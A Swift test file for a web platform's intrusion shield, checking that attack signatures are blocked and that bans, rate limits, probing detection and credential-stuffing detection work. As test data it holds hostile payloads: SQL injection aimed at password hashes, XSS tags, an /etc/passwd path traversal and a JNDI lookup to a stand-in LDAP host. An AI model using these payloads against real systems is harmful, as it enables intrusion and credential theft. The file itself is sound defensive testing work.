import App
import Domain
import Foundation
import HTTPTypes
import Marketplace
import Storage
import Testing

/// Clause 2.2: the intrusion shield in front of every route — signatures refused with a security event, repeat
/// offenders banned for a while (in the database, so every instance agrees), bursts throttled, probing and
/// credential stuffing detected, trusted addresses exempt.
@Suite("Intrusion shield")
struct ShieldTests {
    static func with(
        _ settings: ShieldSettings = ShieldSettings(), _ body: @Sendable (TestPlatform, Client) async throws -> Void
    ) async throws {
        var config = TestPlatform.defaultConfig
        config.shield = settings
        try await TestPlatform.with(.sqlite, config: config) { env in
            try await env.withClient { client in try await body(env, client) }
        }
    }

    @Test(
        "2.2: attack signatures are refused and recorded; three strikes ban the address, which other addresses do not feel"
    )
    func signaturesAndBans() async throws {
        try await Self.with { env, client in
            let attacker = ["X-Forwarded-For": "198.51.100.66"]
            let ordinary = try await client.send(
                .get, "/api/v1/products?q=%E8%8C%B6%20t-shirt%20O%27Neill", headers: attacker)
            #expect(ordinary.status == 200, "an ordinary search with an apostrophe passes")
            let attacks = [
                "/api/v1/products?q=%27%20OR%20%271%27%3D%271", "/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "/api/v1/products?q=..%2F..%2Fetc%2Fpasswd",
            ]
            for path in attacks {
                let reply = try await client.send(.get, path, headers: attacker)
                #expect(reply.status == 403 && reply.problemType == "request-blocked", "\(path): \(reply.body)")
            }
            // a JSON body is inspected value by value
            let body = try await client.send(
                .post, "/api/v1/accounts",
                json:
                    #"{"kind":"consumer","login":"13800138801","password":"correct horse battery","displayName":"<img src=x onerror=alert(1)>"}"#,
                headers: ["X-Forwarded-For": "198.51.100.67"])
            #expect(body.problemType == "request-blocked")
            // the third strike banned the first address: even an ordinary request is refused, with Retry-After
            let banned = try await client.send(.get, "/api/v1/products", headers: attacker)
            #expect(banned.status == 403 && banned.problemType == "address-blocked")
            #expect(banned.headers[.retryAfter] != nil)
            #expect(try await client.send(.get, "/api/v1/products").status == 200, "others are not affected")
            #expect(try await env.auditCount("shield.detect") == 4)
            #expect(try await env.auditCount("shield.ban") == 1)
            #expect(try await env.count("shield_bans") == 1)
            // the ban lives in the database: a second instance (a new shield) enforces it too
            var other = env.platform
            other.shield = Shield(settings: ShieldSettings())
            let verdict = try await other.shield.admit(
                ip: "198.51.100.66", routeClass: .read,
                request: .init(path: "/api/v1/products", query: "", headers: [], body: ""), platform: other)
            #expect(verdict == .banned(retryAfter: 3_600))
            // and it ends on time
            env.clock.advance(seconds: 3_601)
            #expect(try await client.send(.get, "/api/v1/products", headers: attacker).status == 200)
        }
    }

    @Test("2.2: one account spread over many addresses is limited like one address; other accounts are not")
    func rateLimitsPerAccount() async throws {
        var settings = ShieldSettings()
        settings.readBurst = 5
        settings.readPerSecond = 1
        try await Self.with(settings) { env, client in
            // setup (sign-in and registration are their own class, so they do not spend read tokens)
            let token = try await client.newSession(login: "13800138971")
            let other = try await client.newSession(login: "13800138972")
            // act: five reads from five addresses, then a sixth from a new one
            for n in 1...5 {
                let read = try await client.send(
                    .get, "/api/v1/me", token: token, headers: ["X-Forwarded-For": "198.51.100.\(n)"])
                #expect(read.status == 200, "\(read.body)")
            }
            let throttled = try await client.send(
                .get, "/api/v1/me", token: token, headers: ["X-Forwarded-For": "198.51.100.6"])
            // check: the account's bucket is empty; another account on that address still reads
            #expect(throttled.status == 429 && throttled.headers[.retryAfter] != nil, "\(throttled.body)")
            let fine = try await client.send(
                .get, "/api/v1/me", token: other, headers: ["X-Forwarded-For": "198.51.100.6"])
            #expect(fine.status == 200, "\(fine.body)")
        }
    }

    @Test("2.2: bursts above the rate limit are throttled with Retry-After; an allow-listed address is not")
    func rateLimits() async throws {
        var settings = ShieldSettings()
        settings.readBurst = 5
        settings.readPerSecond = 1
        settings.allow = ["192.0.2.0/24"]
        try await Self.with(settings) { env, client in
            for _ in 0..<5 {
                #expect(
                    try await client.send(.get, "/api/v1/products", headers: ["X-Forwarded-For": "198.51.100.9"]).status
                        == 200)
            }
            let throttled = try await client.send(
                .get, "/api/v1/products", headers: ["X-Forwarded-For": "198.51.100.9"])
            #expect(throttled.status == 429 && throttled.headers[.retryAfter] == "1")
            env.clock.advance(seconds: 1)
            #expect(
                try await client.send(.get, "/api/v1/products", headers: ["X-Forwarded-For": "198.51.100.9"]).status
                    == 200)
            // the payment institution's signed callbacks are never throttled (a bad signature is still a 400)
            for _ in 0..<10 {
                let callback = try await client.send(
                    .post, "/api/v1/payments/callback", json: "{}", headers: ["X-Forwarded-For": "198.51.100.9"])
                #expect(callback.status == 400, "\(callback.body)")
            }
            for _ in 0..<20 {
                #expect(
                    try await client.send(.get, "/api/v1/products", headers: ["X-Forwarded-For": "192.0.2.10"]).status
                        == 200)
            }
        }
    }

    @Test("2.2: probing many missing paths, and failing sign-ins for many logins from one address, get it banned")
    func probingAndStuffing() async throws {
        var settings = ShieldSettings()
        settings.probeLimit = 10
        settings.stuffingLimit = 5
        try await Self.with(settings) { env, client in
            let prober = ["X-Forwarded-For": "203.0.113.50"]
            for n in 0..<10 { _ = try await client.send(.get, "/api/v1/products/missing-\(n)", headers: prober) }
            #expect(try await client.send(.get, "/api/v1/products", headers: prober).problemType == "address-blocked")
            for n in 0..<5 {
                _ = try await client.signIn(
                    login: "1380013890\(n)", password: "wrong password 12345", ip: "203.0.113.51")
            }
            let stuffed = try await client.send(.get, "/api/v1/products", headers: ["X-Forwarded-For": "203.0.113.51"])
            #expect(stuffed.problemType == "address-blocked")
            #expect(try await env.auditCount("shield.ban") == 2)
        }
    }

    @Test("2.2: the signatures miss nothing in the attack corpus and flag nothing in ordinary values")
    func signatureUnits() {
        func blocked(_ query: String = "", body: String = "", agent: String = "Mozilla/5.0") -> Bool {
            let input = AttackSignatures.Input(
                path: "/api/v1/products", query: query, headers: [("User-Agent", agent)],
                body: AttackSignatures.bodyText(Data(body.utf8), json: true))
            return AttackSignatures.score(AttackSignatures.inspect(input)) >= AttackSignatures.threshold
        }
        #expect(blocked("q=1%27%20UNION%20SELECT%20password_hash%20FROM%20accounts--"))
        #expect(blocked("q=%253Cscript%253E"), "double encoding")
        #expect(blocked(agent: "sqlmap/1.7"))
        #expect(blocked(body: #"{"text":"${jndi:ldap://x/a}"}"#))
        #expect(!blocked("q=rock%20%26%20roll"))
        #expect(!blocked("q=select%20comfort%20pillow"))
        #expect(!blocked(body: #"{"text":"Me & my cat love it; 5/5 :)","name":"O'Brien"}"#))
        #expect(!blocked(body: #"{"password":"x' OR '1'='1"}"#), "passwords are not inspected")
    }
}
